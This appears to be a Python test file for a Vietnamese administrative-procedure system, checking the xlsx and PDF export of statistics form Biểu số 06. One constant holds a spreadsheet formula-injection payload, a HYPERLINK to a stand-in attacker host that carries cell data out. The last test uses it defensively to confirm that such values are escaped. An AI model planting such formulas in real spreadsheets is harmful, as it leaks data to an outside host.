"""Biểu số 06 as .xlsx (openpyxl) and PDF (Typst): title, period, unit, headers, rows, totals."""

import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from motcua.catalog.models import Field
from tests.dossiers.helpers import act
from tests.integrations.helpers import run_effects
from tests.reports.helpers import desk, online, resolve

URL = "/api/v1/reports/tthc-statistics/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
NOV = {"from": "2026-11-01", "to": "2026-11-16"}


@pytest.fixture
def history(api, receiver, specialist, approver, procedure, commune, clock):
    resolve(api, receiver, specialist, approver, desk(api, receiver, procedure, commune))
    online(api, receiver, procedure, commune)
    act(api(receiver), desk(api, receiver, procedure, commune), "withdraw", note="Xin rút")
    run_effects()  # the worker brings the report facts in step


def test_xlsx_has_the_layout_of_the_form(api, admin_user, history):
    response = api(admin_user).get(URL, {**NOV, "format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(values_only=True))
    assert cells[0][0] == "Biểu số 06/VPCP/KSTT"
    assert cells[1][0] == "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH"
    assert cells[2][0] == "UBND tỉnh Phú Thọ"
    assert cells[3][0] == "Kỳ báo cáo: từ ngày 01/11/2026 đến ngày 16/11/2026"
    header, sub = cells[5], cells[6]
    assert header[:3] == ("STT", "Lĩnh vực", "Số hồ sơ tiếp nhận")
    assert "Số hồ sơ đã giải quyết" in header and "Số hồ sơ đang giải quyết" in header
    assert sub[2:6] == ("Tổng số", "Trực tuyến", "Trực tiếp, bưu chính", "Kỳ trước chuyển qua")
    assert header[-1] == "Số hồ sơ rút, dừng giải quyết" and sub[-1] == "Rút, dừng"
    level, field, total = cells[7], cells[8], cells[9]
    assert level[:3] == ("I", "Cấp xã", 3)
    assert field[:7] == ("1", "Hộ tịch", 3, 1, 2, 0, 1)
    assert total[1:3] == ("Tổng cộng", 3)
    assert total[-4:] == (1, 1, 0, 1)  # pending: total, within, overdue; withdrawn


def test_every_row_balances(api, admin_user, history):
    """Received = resolved + withdrawn + pending, on every line of the form."""
    response = api(admin_user).get(URL, {**NOV, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    lines = list(sheet.iter_rows(min_row=8, values_only=True))
    assert lines
    for line in lines:
        received, resolved, pending, withdrawn = line[2], line[6], line[10], line[13]
        assert received == resolved + withdrawn + pending, line


def test_pdf_shows_the_form_with_its_numbers(api, admin_user, history):
    response = api(admin_user).get(URL, {**NOV, "format": "pdf"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    page = reader.pages[0]
    text = page.extract_text()
    assert page.mediabox.width > page.mediabox.height  # landscape
    assert "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH" in text
    assert "Hộ tịch" in text and "Tổng cộng" in text and "Cấp xã" in text
    assert "Số hồ sơ rút, dừng giải quyết" in " ".join(text.split())
    assert "01/11/2026" in text


def test_export_respects_the_scope(api, other_receiver, commune, history):
    response = api(other_receiver).get(URL, {**NOV, "format": "xlsx", "agency": commune.code})

    assert response.status_code == 403


@pytest.mark.parametrize(
    "fmt, accept", [("pdf", "application/pdf"), ("xlsx", XLSX), ("pdf", "*/*")]
)
def test_a_client_that_asks_for_the_file_type_gets_it(api, admin_user, history, fmt, accept):
    response = api(admin_user).get(URL, {**NOV, "format": fmt}, HTTP_ACCEPT=accept)
    assert response.status_code == 200
    assert response["Content-Type"] == (XLSX if fmt == "xlsx" else "application/pdf")


def test_field_names_are_never_formulas(api, admin_user, history):
    Field.objects.update(name=EVIL)
    response = api(admin_user).get(URL, {**NOV, "format": "xlsx"})
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
             for c in row]  # fmt: skip
    assert all(c.data_type != "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
